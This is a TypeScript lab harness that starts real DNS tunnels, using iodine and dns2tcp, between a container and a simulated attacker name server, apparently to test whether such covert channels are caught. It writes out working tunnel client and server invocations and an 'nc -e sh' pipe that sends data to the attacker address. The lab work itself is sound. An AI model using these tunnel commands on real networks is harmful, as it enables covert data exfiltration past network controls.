/**
 * Real DNS tunnels between a container and the attacker's name server: iodine in each of its record types and modes,
 * dns2tcp in both of its. Each tool asks whomever its container's resolv.conf names, as an intruder would leave it.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startIodined, TUNNEL_ADDRESS, TUNNEL_PASSWORD } from './internet.ts';
import type { Lab } from './lab.ts';
import { type RunningProcess, waitFor } from './run.ts';
import { INTERNET } from './world.ts';

/** What must be in the container's image, and what on this machine for the other end. */
export const CLIENT_TOOLS = ['iodine', 'dns2tcpc'];
export const SERVER_TOOLS = ['iodined', 'dns2tcpd'];

/** A port on the wan that gives back the first `ECHO_BYTES` that it is sent, and closes. */
const ECHO_PORT = 9001;
export const ECHO_BYTES = 3000;
/** Where dns2tcp's client listens in the container. */
const DNS2TCP_PORT = 2222;

export type TunnelTool =
  | {
      readonly program: 'iodine';
      readonly type: 'NULL' | 'TXT' | 'CNAME' | 'MX' | 'SRV' | 'A';
      /** Lazy: the server keeps a question until it has something to say. Otherwise the client asks again and again. */
      readonly lazy: boolean;
      /** Past the resolver, straight to port 53 of the server, in packets that are no DNS. */
      readonly raw?: boolean;
    }
  | { readonly program: 'dns2tcp'; readonly type: 'TXT' | 'KEY' };

export interface Tunnel {
  /** Sends `ECHO_BYTES` through it and answers how many came back. */
  echo(): Promise<number>;
  /** What its client printed. */
  output(): string;
  stop(): Promise<void>;
}

export async function startEcho(lab: Lab): Promise<RunningProcess> {
  const port = String(ECHO_PORT);
  const command = ['busybox', 'head', '-c', String(ECHO_BYTES)];
  const echo = lab.spawn('wan', ['busybox', 'nc', '-ll', '-p', port, '-e', ...command]);
  await waitFor('the port behind the tunnels to listen', async () => {
    const probe = ['busybox', 'nc', '-w', '1', '127.0.0.1', port];
    return (await lab.exec('wan', probe, { accept: 'any' })).code === 0;
  });
  return echo;
}

/** The name server of `zone`, at the attacker's address: one at a time. */
export function startServer(lab: Lab, { program }: TunnelTool, zone: string): Promise<RunningProcess> {
  return program === 'iodine' ? startIodined(lab, { zone }) : startDns2tcpd(lab, zone);
}

async function startDns2tcpd(lab: Lab, zone: string): Promise<RunningProcess> {
  const address = INTERNET.attacker.v4;
  const dir = join(lab.dir, `dns2tcpd-${zone}`);
  mkdirSync(dir);
  const config = join(dir, 'dns2tcpdrc');
  writeFileSync(
    config,
    `listen = ${address}\nport = 53\nuser = root\nchroot = ${dir}\npid_file = ${join(dir, 'pid')}
domain = ${zone}\nkey = ${TUNNEL_PASSWORD}\nresources = echo:127.0.0.1:${ECHO_PORT}\n`,
  );
  const server = lab.spawn('wan', ['dns2tcpd', '-F', '-f', config]);
  await waitFor('dns2tcpd to listen', async () => {
    if (!server.running()) throw new Error(server.output());
    const sockets = await lab.exec('wan', ['ss', '--udp', '--listening', '--numeric', '--no-header']);
    return sockets.stdout.includes(`${address}:53`);
  });
  return server;
}

/** Starts the client and returns at once: from here on it asks. It is bounded to a minute. */
export function startTunnel(lab: Lab, tool: TunnelTool, container: string, zone: string): Tunnel {
  const argv =
    tool.program === 'iodine'
      ? [
          ...['iodine', '-f', '-P', TUNNEL_PASSWORD, '-T', tool.type, '-L', tool.lazy ? '1' : '0'],
          ...['-I', '1', ...(tool.raw === true ? [] : ['-r']), zone],
        ]
      : [
          ...['dns2tcpc', '-z', zone, '-k', TUNNEL_PASSWORD, '-T', tool.type],
          ...['-r', 'echo', '-l', String(DNS2TCP_PORT)],
        ];
  const inside = (...command: readonly string[]) => ['docker', 'exec', container, ...command];
  const client = lab.spawn('host', inside('timeout', '60', ...argv));
  const [address, port] =
    tool.program === 'iodine'
      ? ([TUNNEL_ADDRESS, ECHO_PORT] as const)
      : (['127.0.0.1', DNS2TCP_PORT] as const);
  const stands = tool.program === 'iodine' ? 'Connection setup complete' : 'Listening on port';
  return {
    async echo() {
      await waitFor(`${tool.program} to connect`, () => {
        if (!client.running()) throw new Error(`it ended: ${client.output()}`);
        return client.output().includes(stands);
      });
      // The program speaks on the connection itself: dns2tcp takes the end of what is sent for the end of everything.
      const send = `dd if=/dev/urandom bs=${ECHO_BYTES} count=1 2>/dev/null; head -c ${ECHO_BYTES} | wc -c >&2`;
      const talk = ['timeout', '20', 'nc', address, String(port), '-e', 'sh', '-c', send];
      const answer = await lab.exec('host', inside(...talk), { accept: 'any' });
      return Number(answer.stderr);
    },
    output: client.output,
    async stop() {
      const kill = `kill $(pidof ${argv[0]})`;
      await lab.exec('host', inside('sh', '-c', kill), { accept: 'any' });
      await client.exited;
    },
  };
}
